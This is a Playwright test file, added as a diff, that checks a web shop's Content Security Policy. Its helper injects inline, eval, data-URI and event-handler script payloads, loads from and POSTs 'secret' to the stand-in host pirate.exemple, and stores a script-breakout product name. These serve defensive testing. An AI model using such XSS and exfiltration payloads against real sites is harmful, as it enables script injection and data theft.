@@ -1,0 +1,148 @@
+import type { Page } from "@playwright/test";
+import { createAdmin, createProduct } from "@/db/factories";
+import { openScreen } from "../backoffice";
+import { openSession } from "../browser-session";
+import { expect, test } from "../fixtures";
+import { settled } from "../storefront";
+
+// That pages work under their policy is shown by every browser test: what it refuses is a console
+// error, and fails the test. Here: what it refuses is refused.
+
+declare global {
+  interface Window {
+    pwned?: string[];
+    violations: string[];
+  }
+}
+
+/** Notes what the policy refuses; call it before the page is opened. */
+async function watchViolations(page: Page) {
+  await page.addInitScript(() => {
+    window.violations = [];
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
+      window.violations.push(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+  return { list: () => page.evaluate(() => window.violations) };
+}
+
+/** Puts into the page what somebody might who has found a hole in it. */
+const attack = (page: Page) =>
+  page.evaluate(async () => {
+    window.pwned = [];
+    const inline = document.createElement("script");
+    inline.textContent = "window.pwned.push('inline')";
+    const mimic = document.createElement("script");
+    mimic.textContent = "self.__next_f.push([1,window.pwned.push('mimic')])";
+    const foreign = document.createElement("script");
+    foreign.src = "https://pirate.exemple/x.js";
+    const data = document.createElement("script");
+    data.src = "data:text/javascript,window.pwned.push('data')";
+    const base = document.createElement("base");
+    base.href = "https://pirate.exemple/";
+    const frame = document.createElement("iframe");
+    frame.src = "https://pirate.exemple/";
+    const style = document.createElement("style");
+    style.textContent = "body { background: url(https://pirate.exemple/x.png) }";
+    document.head.append(inline, mimic, foreign, data, base, style);
+    document.body.append(frame);
+    const box = document.createElement("div");
+    box.innerHTML = `<img src="data:," onerror="window.pwned.push('handler')"><a href="javascript:window.pwned.push('link')">x</a>`;
+    document.body.append(box);
+    box.querySelector("a")?.click();
+    // Later, since what a test evaluates may evaluate.
+    await new Promise<void>((resolve) => {
+      setTimeout(() => {
+        try {
+          // biome-ignore lint/security/noGlobalEval: it is refused
+          window.eval("window.pwned.push('eval')");
+        } catch {
+          // As it should.
+        }
+        resolve();
+      });
+    });
+    const sent = await fetch("https://pirate.exemple/", { method: "POST", body: "secret" }).then(
+      () => "sent",
+      () => "refused",
+    );
+    const settled = () =>
+      new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+    await settled();
+    return { ran: window.pwned, sent, base: document.baseURI.includes("pirate") };
+  });
+
+const REFUSED = [
+  "script-src-elem inline",
+  "script-src-elem https://pirate.exemple/x.js",
+  "script-src-elem data",
+  "script-src-attr inline",
+  "script-src eval",
+  "style-src-elem inline",
+  "base-uri https://pirate.exemple/",
+  "frame-src https://pirate.exemple/",
+  "connect-src https://pirate.exemple/",
+];
+
+for (const [kind, path] of [
+  ["a stored page", "/product/34"],
+  ["a page rendered for each request", "/products?search=theiere"],
+  ["the back office", "/backoffice/tags"],
+  ["a page that does not exist", "/rien/du/tout"],
+] as const)
+  test(`${kind} runs, loads and sends nothing that somebody has put into it`, async ({
+    page,
+    database: db,
+    problems,
+  }) => {
+    problems.allow(/Content Security Policy|status of 404|Refused to|violates/);
+    const violations = await watchViolations(page);
+    if (path.startsWith("/backoffice")) await openSession(page, await createAdmin({ db }));
+    await page.goto(path);
+    await settled(page);
+    expect(await violations.list()).toEqual([]);
+    expect(await attack(page)).toEqual({ ran: [], sent: "refused", base: false });
+    const seen = await violations.list();
+    for (const entry of REFUSED) expect(seen, entry).toContain(entry);
+  });
+
+test("the checks of these tests would notice", async ({ page, problems, shop }) => {
+  problems.allow(/./);
+  await page.route(`${shop.baseURL}/contact`, async (route) => {
+    const response = await route.fetch();
+    const { "content-security-policy": _, ...headers } = response.headers();
+    await route.fulfill({ response, headers });
+  });
+  await page.goto("/contact");
+  const { ran } = await attack(page);
+  expect(ran).toEqual(expect.arrayContaining(["inline", "mimic", "handler", "data", "eval"]));
+});
+
+test("a name that closes a script runs nothing, in the page and in its data", async ({
+  page,
+  arrange,
+}) => {
+  const name = `</script><script>window.pwned=["name"]</script><img src=x onerror="window.pwned=['img']">`;
+  const product = await arrange((db) => createProduct({ db, name, description: name }));
+  const violations = await watchViolations(page);
+  await page.goto(`/product/${product.id}`);
+  await expect(page.getByRole("heading", { level: 1 })).toContainText("</script>");
+  expect(await page.evaluate(() => window.pwned)).toBeUndefined();
+  expect(await violations.list()).toEqual([]);
+});
+
+test("the back office's windows bring their style along, with the page's nonce", async ({
+  page,
+  database,
+}) => {
+  const violations = await watchViolations(page);
+  await openScreen({ page, database, path: "/" });
+  // From the shop: the back office is a document of its own.
+  await page.getByRole("banner").getByRole("link", { name: "Back office" }).first().click();
+  await expect(page).toHaveURL("/backoffice");
+  await page.getByRole("link", { name: "Tags" }).click();
+  await page.getByRole("button", { name: /^Ajouter/ }).click();
+  await expect(page.getByRole("dialog")).toBeVisible();
+  await expect(page.locator("body")).toHaveCSS("overflow-y", "hidden");
+  expect(await violations.list()).toEqual([]);
+});
